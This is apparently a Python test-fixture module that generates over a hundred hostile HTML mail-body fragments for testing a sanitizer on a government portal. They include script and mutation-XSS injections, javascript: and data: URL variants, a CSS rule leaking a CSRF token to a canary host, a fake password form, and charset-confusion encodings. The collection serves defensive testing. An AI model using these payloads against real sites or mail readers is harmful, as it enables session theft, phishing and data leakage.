# ruff: noqa: E501 - one way of doing harm a line, as it would be sent
"""HTML that runs, loads, frames, sends or disguises itself: one way a line."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

from .canary import CANARY as C
from .canary import RUN as X

_EVENTS = [
    "onabort",
    "onanimationstart",
    "onauxclick",
    "onbeforeinput",
    "onbeforematch",
    "onbeforetoggle",
    "onblur",
    "oncanplay",
    "onclick",
    "oncontextmenu",
    "oncopy",
    "ondragstart",
    "onerror",
    "onfocus",
    "onfocusin",
    "onhashchange",
    "oninput",
    "onkeydown",
    "onload",
    "onloadstart",
    "onmessage",
    "onmouseenter",
    "onmouseover",
    "onpageshow",
    "onpaste",
    "onpointerover",
    "onpointerrawupdate",
    "onresize",
    "onscroll",
    "onscrollend",
    "onselectionchange",
    "onsubmit",
    "ontoggle",
    "ontransitionend",
    "onunhandledrejection",
    "onwheel",
]
_SCHEMES = (
    f"javascript:{X}", f"JaVaScRiPt:{X}", f"java\tscript:{X}", f"java\nscript:{X}",
    f"\x01javascript:{X}", f" javascript:{X}", f"&#106;avascript:{X}", f"&#x6A&#x61vascript:{X}",
    f"javascript&colon;{X}", f"javascript&#58;{X}", f"java&NewLine;script:{X}",
    f"data:text/html,<script>{X}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:MsgBox(1)", f"livescript:{X}", f"feed:javascript:{X}", f"view-source:javascript:{X}",
    f"javascript://{C}/%0a{X}", "file:///etc/passwd", "\\\\canary.example\\share\\x", "//canary.example/x",
    f"blob:{C}/x", "intent://canary.example#Intent;end", "ms-word:ofe|u|http://canary.example/x.docx",
)  # fmt: skip


def _fragments() -> dict[str, str]:
    found = {
        "script": f"<script>{X}</script>",
        "script-src": f'<script src="{C}/x.js"></script>',
        "script-module": f'<script type="module">import "{C}/x.js";{X}</script>',
        "script-speculation": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{C}/"]}}]}}</script>',
        "script-broken": f"<scr<script>ipt>{X}</scr</script>ipt>",
        "script-unclosed": f"<script>{X}//",
        "script-slash": f"<script/x>{X}</script\t\n>",
        "script-in-title": f"</title><script>{X}</script>",
        "script-in-textarea": f"</textarea><script>{X}</script>",
        "script-in-style": f"<style></style><script>{X}</script>",
        "script-in-comment": f"<!--><script>{X}</script-->",
        "script-in-comment-bang": f"<!-- --!><script>{X}</script> -->",
        "script-in-cdata": f"<![CDATA[><script>{X}</script>]]>",
        "conditional": f"<!--[if gte mso 9]><script>{X}</script><![endif]-->",
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={X}>"></noscript>',
        "template": f"<template><img src=x onerror={X}></template>",
        "shadow": f'<div><template shadowrootmode="open"><img src=x onerror="{X}"></template></div>',
        "mutation-math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={X}&gt;">',
        "mutation-form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>',
        "mutation-svg-p": f'<svg></p><style><a id="</style><img src=1 onerror={X}>">',
        "mutation-noembed": f'<noembed><img title="</noembed><img src onerror={X}>"></noembed>',
        "mutation-select": f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={X}>\">",
        "mutation-backtick": f"<img alt=\"`><img src=x onerror={X}>\">",
        "math-href": f'<math href="javascript:{X}">Bấm</math>',
        "math-action": f'<math><maction actiontype="statusline#{C}" xlink:href="javascript:{X}">x</maction></math>',
        "svg-script": f"<svg><script>{X}</script></svg>",
        "svg-script-href": f'<svg><script href="{C}/x.js"/></svg>',
        "svg-onload": f'<svg onload="{X}"><circle r="9"/></svg>',
        "svg-foreign": f'<svg><foreignObject><iframe src="javascript:{X}"></iframe></foreignObject></svg>',
        "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{X}"/><text y="20">x</text></a></svg>',
        "svg-set": f'<svg><set attributeName="onmouseover" to="{X}"/></svg>',
        "svg-use": f'<svg><use href="{C}/x.svg#a"/></svg>',
        "svg-image": f'<svg><image href="{C}/x.png"/></svg>',
        "svg-feimage": f'<svg><filter><feImage href="{C}/x.png"/></filter></svg>',
        "svg-xlink": f'<svg><a xlink:href="javascript:{X}"><text y="20">x</text></a></svg>',
        "img": f'<img src="{C}/pixel.gif" width="1" height="1">',
        "img-srcset": f'<img srcset="{C}/a.png 1x, {C}/b.png 2x">',
        "img-lazy": f'<img loading="lazy" src="{C}/lazy.png">',
        "img-lowsrc": f'<img lowsrc="{C}/low.png" dynsrc="{C}/dyn.avi">',
        "img-onerror": f'<img src="x" onerror="{X}">',
        "img-onerror-slash": f"<img/src/onerror={X}>",
        "img-onerror-quote": f'<img src=`x`onerror={X}>',
        "img-cid": '<img src="cid:khong-co">',
        "picture": f'<picture><source srcset="{C}/a.webp"><img src="{C}/a.png"></picture>',
        "input-image": f'<input type="image" src="{C}/x.png">',
        "video": f'<video src="{C}/x.mp4" poster="{C}/p.png" autoplay></video>',
        "audio": f'<audio src="{C}/x.mp3" autoplay></audio>',
        "track": f'<video><track default src="{C}/x.vtt"><source src="{C}/x.webm"></video>',
        "bgsound": f'<bgsound src="{C}/x.wav">',
        "body-background": f'<body background="{C}/x.png" onload="{X}">',
        "table-background": f'<table background="{C}/x.png"><tr><td background="{C}/y.png">x</td></tr></table>',
        "iframe": f'<iframe src="{C}/"></iframe>',
        "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{X}&lt;/script&gt;"></iframe>',
        "iframe-js": f'<iframe src="javascript:{X}"></iframe>',
        "frameset": f'<frameset><frame src="javascript:{X}"></frameset>',
        "object": f'<object data="{C}/x.swf" type="application/x-shockwave-flash"></object>',
        "object-data": f'<object data="data:text/html,<script>{X}</script>"></object>',
        "embed": f'<embed src="{C}/x.pdf">',
        "applet": f'<applet code="x" archive="{C}/x.jar"></applet>',
        "portal": f'<portal src="{C}/"></portal><fencedframe src="{C}/"></fencedframe>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={C}/">',
        "meta-refresh-js": f'<meta http-equiv="refresh" content="0;url=javascript:{X}">',
        "meta-csp": "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src * 'unsafe-inline'\">",
        "meta-cookie": '<meta http-equiv="set-cookie" content="sessionid=x">',
        "meta-referrer": '<meta name="referrer" content="unsafe-url">',
        "base": f'<base href="{C}/"><a href="x">x</a>',
        "base-target": f'<base target="_blank"><a href="{C}/">x</a>',
        "link-css": f'<link rel="stylesheet" href="{C}/x.css">',
        "link-import": f'<link rel="import" href="{C}/x.html">',
        "link-preload": f'<link rel="preload" as="script" href="{C}/x.js">',
        "link-prefetch": f'<link rel="dns-prefetch" href="{C}"><link rel="preconnect" href="{C}">',
        "link-icon": f'<link rel="icon" href="{C}/x.ico">',
        "link-manifest": f'<link rel="manifest" href="{C}/x.json">',
        "style-import": f'<style>@import "{C}/x.css";</style>',
        "style-url": f"<style>p {{ background: url({C}/x.png) }}</style>",
        "style-font": f"<style>@font-face {{ font-family: x; src: url({C}/x.woff2) }} p {{ font: 1em x }}</style>",
        "style-leak": f'<style>input[name=csrfmiddlewaretoken][value^="a"] {{ background: url({C}/a) }}</style>',
        "style-overlay": "<style>* { display: none !important }</style>",
        "style-attribute": f'<p style="background:url({C}/x.png)">x</p>',
        "style-expression": f'<p style="width:expression({X})">x</p>',
        "style-behavior": f'<p style="behavior:url({C}/x.htc);-moz-binding:url({C}/x.xml)">x</p>',
        "style-cover": f'<a href="{C}/" style="position:fixed;inset:0;z-index:99999">x</a>',
        "style-escape": f'<p style="back\\ground:u\\rl({C}/x.png)">x</p>',
        "form": f'<form action="{C}/"><input name="password" type="password"><button>Đăng nhập</button></form>',
        "form-button": f'<button form="f" formaction="javascript:{X}">x</button>',
        "form-clobber": '<form id="document"><input name="cookie"><input name="forms"></form><img name="getElementById">',
        "form-into-ours": '<input form="id_form" name="approve" value="1"><input name="csrfmiddlewaretoken" value="x">',
        "form-close": f'</form></div></main><form action="{C}/"><button>Lưu</button></form>',
        "autofocus": f"<input autofocus onfocus={X}>",
        "contenteditable": f'<div contenteditable autofocus onfocus="{X}">x</div>',
        "details": f"<details open ontoggle={X}><summary>x</summary></details>",
        "marquee": f"<marquee onstart={X}>x</marquee>",
        "dialog": f'<dialog open onbeforetoggle="{X}">x</dialog>',
        "popover": f'<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="{X}">x</div>',
        "accesskey": f'<a accesskey="n" href="#" onclick="{X}">x</a>',
        "data-key": f'<a data-key="n" href="{C}/">x</a><button data-key="d" data-act="bold">x</button>',
        "htmx": f'<div hx-get="{C}/" hx-trigger="load" hx-on:load="{X}" data-hx-get="{C}/">x</div>',
        "ids": '<p id="main">x</p><p id="h-personal" data-keep="/x" data-guard data-others>x</p>',
        "angular": "{{constructor.constructor('alert(1)')()}} {% load x %} ${7*7} <%= 7*7 %>",
        "opener": f'<a href="{C}/" target="_blank" rel="opener">x</a>',
        "ping": f'<a href="#" ping="{C}/">x</a>',
        "attributionsrc": f'<img attributionsrc="{C}/" src="data:,">',
        "link-text": f'<a href="{C}/">https://caobang.gov.vn/</a>',
        "link-quote": f'<a href=\'"><script>{X}</script>\'>x</a>',
        "attribute-break": f'<p title=\'"><script>{X}</script>\' class="\'>">x</p>',
        "unquoted": f"<p title=x/onmouseover={X}>x</p>",
        "nul-in-tag": f"<scr\x00ipt>{X}</scr\x00ipt><img src=x one\x00rror={X}>",
        "fullwidth": f"＜script＞{X}＜/script＞ ‹script›",
        "bidi": f"<p>\u202e<a href='{C}/'>gpj.exe\u202c \u2066x\u2069</a></p>",
        "zero-width": f"<scr\u200bipt>{X}</script><a href='java\u200bscript:{X}'>x</a>",
        "deep": "<div>" * 900 + f"<img src=x onerror={X}>",
        "entity-script": escape(f"<script>{X}</script>"),
        "double-entity": escape(escape(f"<img src=x onerror={X}>")),
        "json-break": f'</script><script>{X}</script>{{"a":"\u2028\u2029"}}',
        "xml-feed": f"]]></summary><script>{X}</script><entry>&lt;script&gt;{X}&lt;/script&gt;",
        "import-map": f'<script type="importmap">{{"imports":{{"x":"{C}/x.js"}}}}</script>',
        "xmp": f"<xmp><script>{X}</script></xmp><plaintext><script>{X}</script>",
        "isindex": f'<isindex type="image" src="{C}/x.png" onerror="{X}">',
        "ruby": f'<ruby oncopy="{X}">x<rt>y</ruby>',
        "custom": f'<x-x onclick="{X}" is="y" style="x:y" tabindex=1 autofocus onfocus={X}>x</x-x>',
    }  # fmt: skip
    for event in _EVENTS:
        found[f"event-{event}"] = f'<p {event}="{X}" tabindex="1">x</p><svg {event}={X}></svg>'
    for number, address in enumerate(_SCHEMES):
        found[f"scheme-{number}"] = f'<a href="{address}">Bấm vào đây</a><img src="{address}">'
    return found


#: Name → HTML of a mail's body.
FRAGMENTS = _fragments()

_HEAD = (
    b"From: vanthu@vpubnd.caobang.gov.vn\r\nTo: portal@caobang.gov.vn\r\nSubject: Gui dang tin\r\n"
    b"MIME-Version: 1.0\r\n"
)


def encoded() -> Iterator[tuple[str, bytes]]:
    """The same hidden in a charset, where one side reads other letters than the other."""
    script = f"<p>x</p><script>{X}</script>"
    bodies = {
        "utf-7": ("utf-7", script.replace("<", "+ADw-").replace(">", "+AD4-").encode()),
        "utf-16": ("utf-16", script.encode("utf-16")),
        "utf-16-unsaid": ("us-ascii", script.encode("utf-16-le")),
        "overlong": ("utf-8", script.encode().replace(b"<", b"\xc0\xbc")),
        "overlong-3": ("utf-8", script.encode().replace(b"<", b"\xe0\x80\xbc")),
        "iso-2022-jp": (
            "iso-2022-jp",
            b"<p title='\x1b$B'>x\x1b(B<script>" + X.encode() + b"</script>",
        ),
        "shift-jis": ("shift_jis", b'<p title="\x83"> onmouseover=' + X.encode() + b" >"),
        "gb2312": ("gb2312", b'<p title="\xc0"><script>' + X.encode() + b'</script>">'),
        "hz": ("hz-gb-2312", b"~{<script>~}" + script.encode()),
        "unknown": ("x-khong-co", script.encode()),
        "bom": ("us-ascii", b"\xef\xbb\xbf" + script.encode()),
        "c1": ("iso-8859-1", b"\x9bscript\x9b" + script.encode()),
    }
    for name, (charset, body) in bodies.items():
        kind = f"Content-Type: text/html; charset={charset}\r\n\r\n".encode()
        yield name, _HEAD + kind + body
